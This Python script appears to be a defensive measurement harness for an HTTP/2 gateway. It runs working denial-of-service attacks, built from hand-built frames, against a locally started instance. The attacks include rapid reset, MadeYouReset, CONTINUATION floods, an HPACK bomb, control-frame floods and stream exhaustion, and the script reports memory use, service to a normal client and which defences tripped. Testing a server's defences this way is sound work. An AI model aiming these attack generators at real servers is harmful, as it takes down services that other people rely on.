#!/usr/bin/python3
"""HTTP/2 attacks against a running gateway, measured: not part of the test suite.

Each attack runs for a few seconds against a fresh gateway (release build by default) while a
normal HTTP/2 client keeps requesting on its own connection. Per attack it reports the
gateway's RSS (before, peak sampled every 20 ms plus VmHWM, after), how many requests the
upstream saw from the attacker against how many the attacker opened, the normal client's
successes and p99, how the gateway ended the attack (GOAWAY code, RST_STREAM frames, close)
and which defence counter moved.

    /usr/bin/python3 tests/e2e/h2_attacks_report.py [--bin build/switchyard] [--seconds 4]
        [--ports 29500-29599] [--only name,name] [--markdown out.md]

Ports come from --ports (each checked free before use). The attackers are deliberately simple
(python3-h2 for HPACK, hand-built frames for the rest) and single-threaded; the numbers are a
lower bound of what a determined client can do, not a benchmark.
"""

import argparse
import os
import platform
import select
import socket
import ssl
import struct
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from certs import TestCA  # noqa: E402
from h2util import H2Client, frame, tls_h2_socket  # noqa: E402
from helpers import Gateway, Upstream, metric_sum, version_block  # noqa: E402
from tlsutil import tls_config  # noqa: E402

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
         8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REPO = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))


# ---------------------------------------------------------------- ports, gateway

class Ports:
    def __init__(self, lo, hi):
        self.next, self.hi = lo, hi

    def take(self):
        while self.next <= self.hi:
            p = self.next
            self.next += 1
            s = socket.socket()
            try:
                s.bind(("127.0.0.1", p))
                return p
            except OSError:
                continue
            finally:
                s.close()
        raise SystemExit("no free port left in the --ports range")


def rss(pid):
    out = {}
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith(("VmRSS:", "VmHWM:")):
                    out[line.split(":")[0]] = int(line.split()[1])
    except OSError:
        pass
    return out


class Sampler(threading.Thread):
    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak, self.stop = pid, 0, threading.Event()

    def run(self):
        while not self.stop.is_set():
            self.peak = max(self.peak, rss(self.pid).get("VmRSS", 0))
            time.sleep(0.02)


# ---------------------------------------------------------------- the normal client

class Normal(threading.Thread):
    """Sequential GETs on one HTTP/2 connection (a new one if it breaks)."""

    def __init__(self, port, ca):
        super().__init__(daemon=True)
        self.port, self.ca = port, ca
        self.ok, self.failed, self.lat = 0, 0, []
        self.why = {}              # failure reason -> count
        self.stop = threading.Event()

    def run(self):
        c = None
        i = 0
        while not self.stop.is_set():
            try:
                if c is None or c.closed or c.goaway is not None:
                    c = H2Client(self.port, self.ca, timeout=5)
                t0 = time.monotonic()
                st = c.get("/normal%d" % i, timeout=5)
                i += 1
                if st.status == 200 and st.ended:
                    self.ok += 1
                    self.lat.append(time.monotonic() - t0)
                else:
                    self.fail("status %s reset %s" % (st.status, st.reset))
            except Exception as e:
                self.fail(type(e).__name__)
                c = None
                time.sleep(0.05)

    def fail(self, why):
        self.failed += 1
        self.why[why] = self.why.get(why, 0) + 1

    def p99_ms(self):
        if not self.lat:
            return float("nan")
        s = sorted(self.lat)
        return 1000 * s[min(len(s) - 1, int(len(s) * 0.99))]


# ---------------------------------------------------------------- raw attacker connections

def hpack_int(v, prefix_bits, first):
    mx = (1 << prefix_bits) - 1
    if v < mx:
        return bytes([first | v])
    out = [first | mx]
    v -= mx
    while v >= 128:
        out.append(v % 128 + 128)
        v //= 128
    out.append(v)
    return bytes(out)


def hpack_lit(name, value, index=False):
    """A literal field with a new name, with or without incremental indexing; no Huffman."""
    return (b"\x40" if index else b"\x00") + hpack_int(len(name), 7, 0) + name + \
        hpack_int(len(value), 7, 0) + value


# :method GET, :scheme https, :path / (static 2, 7, 4); :authority a.test literal, not indexed
GET_SLASH = b"\x82\x87\x84" + b"\x01" + hpack_int(6, 7, 0) + b"a.test"


def req_block(path, method=b"GET", extra=b""):
    m = b"\x82" if method == b"GET" else b"\x83"   # static 2 GET, 3 POST
    return m + b"\x87" + b"\x04" + hpack_int(len(path), 7, 0) + path + \
        b"\x01" + hpack_int(6, 7, 0) + b"a.test" + extra


class Raw:
    """One attacker connection: frames written as built, frames read and tallied."""

    def __init__(self, port, ca, settings=b"", ack=True):
        self.ack = ack             # acknowledge the gateway's SETTINGS
        self.s = tls_h2_socket(port, ca, timeout=5)
        self.s.settimeout(2)
        self.buf = b""
        self.goaway = None
        self.rst = 0
        self.closed = False
        self.sid = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        if self.closed:
            return False
        try:
            self.s.sendall(data)
            return True
        except (socket.timeout, ssl.SSLError, OSError):
            self.poll(0.2)
            if isinstance(sys.exc_info()[1], socket.timeout):
                return False
            self.closed = True
            return False

    def poll(self, wait=0.0):
        """Reads what is there; acknowledges SETTINGS (when self.ack) and nothing else."""
        while not self.closed:
            try:
                r, _, _ = select.select([self.s], [], [], wait)
            except (OSError, ValueError):
                self.closed = True
                return
            if not r and not self.s.pending():
                return
            try:
                d = self.s.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except (ssl.SSLError, OSError):
                d = b""
            if not d:
                self.closed = True
                return
            self.buf += d
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                t, fl, payload = self.buf[3], self.buf[4], self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                if t == SETTINGS and not fl & ACK and self.ack:
                    try:
                        self.s.sendall(frame(SETTINGS, ACK, 0, b""))
                    except OSError:
                        pass
                elif t == GOAWAY and self.goaway is None:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                elif t == RST_STREAM:
                    self.rst += 1
            wait = 0

    def next_sid(self):
        sid = self.sid
        self.sid += 2
        return sid

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


# ---------------------------------------------------------------- attacks

class Attack:
    """run(ctx) sends until ctx.deadline; counts what it opened in self.opened."""
    name = doc = ""
    seconds = None                 # None: the --seconds value
    config = None                  # http2 / timeouts overrides for this attack

    def __init__(self):
        self.opened = 0
        self.frames = 0
        self.conns = []

    def conn(self, ctx, settings=b""):
        c = Raw(ctx.port, ctx.ca, settings)
        c.poll(0.2)
        self.conns.append(c)
        return c

    def wait_closed(self, ctx):
        """Reads every connection until the gateway closed them all, or the deadline."""
        while time.monotonic() < ctx.deadline and not all(c.closed for c in self.conns):
            for c in self.conns:
                c.poll(0)
            time.sleep(0.2)

    def one_stream_flood(self, ctx, flags, method, burst, per):
        """A stream opened (HEADERS with flags) on each new connection, then burst(sid, i)
        frames (per of them) until the deadline."""
        c, i = None, 0
        while time.monotonic() < ctx.deadline:
            if c is None or c.closed or c.goaway is not None:
                c = self.conn(ctx)
                sid = c.next_sid()
                if c.send(frame(HEADERS, flags, sid, req_block(b"/atk", method))):
                    self.opened += 1
            if c.send(burst(sid, i)):
                self.frames += per
            i += per
            c.poll()

    def keep_going(self, ctx, c):
        """The current connection, or a new one once the gateway ended it (or said GOAWAY)."""
        if c is None or c.closed or c.goaway is not None:
            return self.conn(ctx)
        return c


class Baseline(Attack):
    name, doc = "baseline", "no attack: the normal client alone, for comparison"

    def run(self, ctx):
        time.sleep(max(0.0, ctx.deadline - time.monotonic()))


class RapidReset(Attack):
    name, doc = "rapid_reset", "HEADERS then RST_STREAM(CANCEL), in bursts of 20 (CVE-2023-44487)"

    def run(self, ctx):
        c = None
        while time.monotonic() < ctx.deadline:
            c = self.keep_going(ctx, c)
            out = b""
            for _ in range(20):
                sid = c.next_sid()
                out += frame(HEADERS, END_HEADERS | END_STREAM, sid, req_block(b"/atk?slow")) + \
                    frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
            if c.send(out):
                self.opened += 20
            c.poll()


class MadeYouReset(Attack):
    name, doc = ("made_you_reset", "POST with content-length: 1, then 2 bytes of DATA: the "
                 "server resets each stream (CVE-2025-8671); bursts of 20, each after the "
                 "resets of the one before")

    def run(self, ctx):
        c = None
        cl = hpack_lit(b"content-length", b"1")
        while time.monotonic() < ctx.deadline:
            c = self.keep_going(ctx, c)
            out = b""
            for _ in range(20):
                sid = c.next_sid()
                out += frame(HEADERS, END_HEADERS, sid, req_block(b"/atk", b"POST", cl)) + \
                    frame(DATA, END_STREAM, sid, b"xx")
            before = c.rst
            if c.send(out):
                self.opened += 20
            # stay under the concurrency limit: the resets of this burst first
            t = time.monotonic() + 0.05
            while c.rst < before + 20 and not c.closed and time.monotonic() < t:
                c.poll(0.005)


class ContinuationFlood(Attack):
    name, doc = ("continuation_flood", "one HEADERS without END_HEADERS, then endless "
                 "CONTINUATION frames of fresh fields (CVE-2024-27316)")

    def run(self, ctx):
        self.one_stream_flood(ctx, 0, b"GET", lambda sid, i: b"".join(
            frame(CONTINUATION, 0, sid, hpack_lit(b"x-c%d" % (i + k), b"v" * 64))
            for k in range(50)), 50)


class HpackBomb(Attack):
    name, doc = ("hpack_bomb", "a 4 KB field put in the HPACK table once, then each request "
                 "refers to it 8000 times (1 byte each: 32 MB decoded per 8 KB sent)")

    def run(self, ctx):
        c = None
        while time.monotonic() < ctx.deadline:
            if c is None or c.closed or c.goaway is not None:
                c = self.conn(ctx)
                first = True
            sid = c.next_sid()
            block = req_block(b"/atk")
            if first:
                block += hpack_lit(b"x-bomb", b"b" * 4000, index=True)
                first = False
            block += b"\xbe" * 8000    # dynamic index 62: the bomb
            if c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block)):
                self.opened += 1
            c.poll()


class ControlFlood(Attack):
    """SETTINGS, PING or PRIORITY frames in bursts."""

    def __init__(self, name, ftype):
        super().__init__()
        self.name, self.ftype = name, ftype
        self.doc = "%s frames in bursts of 100" % {SETTINGS: "SETTINGS", PING: "PING",
                                                 PRIORITY: "PRIORITY"}[ftype]

    def run(self, ctx):
        c = None
        i = 0
        while time.monotonic() < ctx.deadline:
            c = self.keep_going(ctx, c)
            if self.ftype == SETTINGS:
                one = lambda k: frame(SETTINGS, 0, 0, b"")  # noqa: E731
            elif self.ftype == PING:
                one = lambda k: frame(PING, 0, 0, struct.pack(">Q", k))  # noqa: E731
            else:
                one = lambda k: frame(PRIORITY, 0, 2 * k + 1, struct.pack(">IB", 0, 15))  # noqa
            if c.send(b"".join(one(i + k) for k in range(100))):
                self.frames += 100
            i += 100
            c.poll()


class EmptyData(Attack):
    name, doc = "empty_data_flood", "a POST stream kept open with empty DATA frames, 100 a burst"

    def run(self, ctx):
        self.one_stream_flood(ctx, END_HEADERS, b"POST",
                              lambda sid, i: frame(DATA, 0, sid, b"") * 100, 100)


class ZeroWindow(Attack):
    name, doc = ("zero_window", "INITIAL_WINDOW_SIZE 0, 100 streams each asking for 8 MB, "
                 "never a WINDOW_UPDATE")

    def run(self, ctx):
        burst_and_wait(self, ctx, self.conn(ctx, settings=struct.pack(">HI", 0x4, 0)), 100,
                       b"/big?bytes=8388608&atk")


class MaxStreams(Attack):
    name, doc = ("max_concurrent_streams", "1000 slow requests at once on one connection "
                 "(the limit is 100)")

    def run(self, ctx):
        burst_and_wait(self, ctx, self.conn(ctx), 1000, b"/slow?ms=2000&atk")


def burst_and_wait(atk, ctx, c, n, path):
    """n GET streams at once, then only reading until the deadline or the end."""
    out = b""
    for _ in range(n):
        out += frame(HEADERS, END_HEADERS | END_STREAM, c.next_sid(), req_block(path))
    if c.send(out):
        atk.opened += n
    while time.monotonic() < ctx.deadline and not c.closed:
        c.poll(0.2)


class IdleConns(Attack):
    name, doc = ("settings_never_acked", "200 connections that send the preface and SETTINGS, "
                 "never acknowledge the gateway's, then wait")
    seconds = 12

    def run(self, ctx):
        for _ in range(200):
            try:
                self.conns.append(Raw(ctx.port, ctx.ca, ack=False))
            except OSError:
                break
        self.wait_closed(ctx)


class HeaderTimeout(Attack):
    name, doc = ("unfinished_header_block", "50 connections, each a HEADERS frame without "
                 "END_HEADERS and nothing more")
    seconds = 12

    def run(self, ctx):
        for _ in range(50):
            c = self.conn(ctx)
            c.send(frame(HEADERS, 0, c.next_sid(), req_block(b"/atk")))
            self.opened += 1
        self.wait_closed(ctx)


ATTACKS = [Baseline, RapidReset, MadeYouReset, ContinuationFlood, HpackBomb,
           lambda: ControlFlood("settings_flood", SETTINGS),
           lambda: ControlFlood("ping_flood", PING),
           lambda: ControlFlood("priority_flood", PRIORITY),
           EmptyData, ZeroWindow, MaxStreams, IdleConns, HeaderTimeout]


# ---------------------------------------------------------------- running one

class Ctx:
    pass


def run_one(make, args, ca, leaf, up, ports, tmp):
    atk = make()
    h, s_, a = ports.take(), ports.take(), ports.take()
    cfg = tls_config(h, s_, a, {"v": [up.addr]},
                     [{"hosts": ["a.test"], "version": version_block({"1": "v"}, "1")}],
                     [leaf], workers=1)
    gw = Gateway(args.bin, tmp, cfg, name="atk-%s" % atk.name)
    gw.start()
    gw.wait_ready()
    try:
        before = rss(gw.pid).get("VmRSS", 0)
        started0 = len(up.started)
        ctx = Ctx()
        ctx.port, ctx.ca = s_, ca
        normal = Normal(s_, ca)
        sampler = Sampler(gw.pid)
        sampler.start()
        normal.start()
        time.sleep(0.5)
        ctx.deadline = time.monotonic() + (atk.seconds or args.seconds)
        t0 = time.monotonic()
        try:
            atk.run(ctx)
        except Exception as e:   # an attacker that breaks is reported, not fatal
            atk.error = repr(e)
        took = time.monotonic() - t0
        time.sleep(1.0)
        for c in atk.conns:
            c.poll(0)
        normal.stop.set()
        normal.join(10)
        sampler.stop.set()
        sampler.join()
        samples = gw.metrics()
        after = rss(gw.pid)
        seen = sum(1 for r in up.started[started0:] if "atk" in r["target"])
        goaways = sorted({CODES.get(c.goaway, str(c.goaway)) for c in atk.conns
                          if c.goaway is not None})
        trips = {l["defence"]: int(v) for (n, l, v) in samples
                 if n == "switchyard_http2_defence_trips_total" and v}
        return {
            "attack": atk.name, "doc": atk.doc, "seconds": took,
            "opened": atk.opened, "frames": atk.frames, "conns": len(atk.conns),
            "upstream": seen,
            "ok": normal.ok, "failed": normal.failed, "p99": normal.p99_ms(), "why": normal.why,
            "rss_before": before, "rss_peak": max(sampler.peak, before),
            "hwm": after.get("VmHWM", 0), "rss_after": after.get("VmRSS", 0),
            "goaway": goaways, "rst": sum(c.rst for c in atk.conns),
            "closed": sum(1 for c in atk.conns if c.closed),
            "trips": trips,
            "resets_in": metric_sum(samples, "switchyard_http2_client_resets_total") or 0,
            "error": getattr(atk, "error", None),
        }
    finally:
        for c in atk.conns:
            c.close()
        gw.proc.terminate()
        try:
            gw.proc.wait(10)
        except Exception:
            gw.proc.kill()


def mib(kb):
    return "%.1f" % (kb / 1024.0)


def table(rows):
    out = ["| attack | attacker sent (until each GOAWAY) | upstream saw | normal client ok / failed, p99 ms | "
           "RSS MiB before / peak / after (VmHWM) | how it ended | defence counter |",
           "|---|---|---|---|---|---|---|"]
    for r in rows:
        sent = "%d streams" % r["opened"] if r["opened"] else ""
        if r["frames"]:
            sent += (", " if sent else "") + "%d frames" % r["frames"]
        sent += " on %d conn%s in %.0f s" % (r["conns"], "s" if r["conns"] != 1 else "",
                                            r["seconds"])
        ended = []
        if r["goaway"]:
            ended.append("GOAWAY " + "/".join(r["goaway"]))
        if r["rst"]:
            ended.append("%d RST_STREAM" % r["rst"])
        ended.append("%d/%d conns closed" % (r["closed"], r["conns"]))
        trips = ", ".join("%s %d" % kv for kv in sorted(r["trips"].items())) or "none"
        if r["error"]:
            ended.append("attacker error %s" % r["error"])
        out.append("| %s | %s | %d | %d / %d, %.1f | %s / %s / %s (%s) | %s | %s |" % (
            r["attack"], sent, r["upstream"], r["ok"], r["failed"], r["p99"],
            mib(r["rss_before"]), mib(r["rss_peak"]), mib(r["rss_after"]), mib(r["hwm"]),
            "; ".join(ended), trips))
    return "\n".join(out)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--bin", default=os.path.join(REPO, "build", "switchyard"))
    ap.add_argument("--seconds", type=float, default=4.0)
    ap.add_argument("--ports", default="29500-29599")
    ap.add_argument("--only", default="")
    ap.add_argument("--markdown", default="")
    args = ap.parse_args()
    lo, hi = (int(x) for x in args.ports.split("-"))
    ports = Ports(lo, hi)
    tmp = tempfile.mkdtemp(prefix="h2-attacks-")
    ca = TestCA(tmp)
    leaf = ca.issue("a", ["a.test"], key="ec")
    up = Upstream("up", port=ports.take())
    up.start()
    only = set(filter(None, args.only.split(",")))
    rows = []
    try:
        for make in ATTACKS:
            name = make().name
            if only and name not in only:
                continue
            r = run_one(make, args, ca.cert, leaf, up, ports, tmp)
            print("%-24s opened %5d upstream %4d normal %4d/%d p99 %.1f ms RSS %s/%s/%s "
                  "ended %s rst %d trips %s" % (
                      r["attack"], r["opened"], r["upstream"], r["ok"], r["failed"], r["p99"],
                      mib(r["rss_before"]), mib(r["rss_peak"]), mib(r["rss_after"]),
                      r["goaway"], r["rst"], r["trips"]), flush=True)
            if r["why"]:
                print("    normal client failures: %r" % r["why"], flush=True)
            rows.append(r)
    finally:
        up.stop()
    md = table(rows)
    head = "Run %s on %s (%s, %d CPUs), nghttp2 %s, binary %s\n\n" % (
        time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()), platform.node(),
        platform.platform(), os.cpu_count(), nghttp2_version(), args.bin)
    print()
    print(head + md)
    print()
    for r in rows:
        print("- %s: %s" % (r["attack"], r["doc"]))
    if args.markdown:
        with open(args.markdown, "w") as f:
            f.write(head + md + "\n\n" + "\n".join("- `%s`: %s" % (r["attack"], r["doc"])
                                                   for r in rows) + "\n")


def nghttp2_version():
    try:
        import subprocess
        out = subprocess.run(["dpkg-query", "-W", "-f=${Version}", "libnghttp2-14"],
                             capture_output=True, text=True, timeout=5)
        return out.stdout.strip() or "?"
    except Exception:
        return "?"


if __name__ == "__main__":
    main()
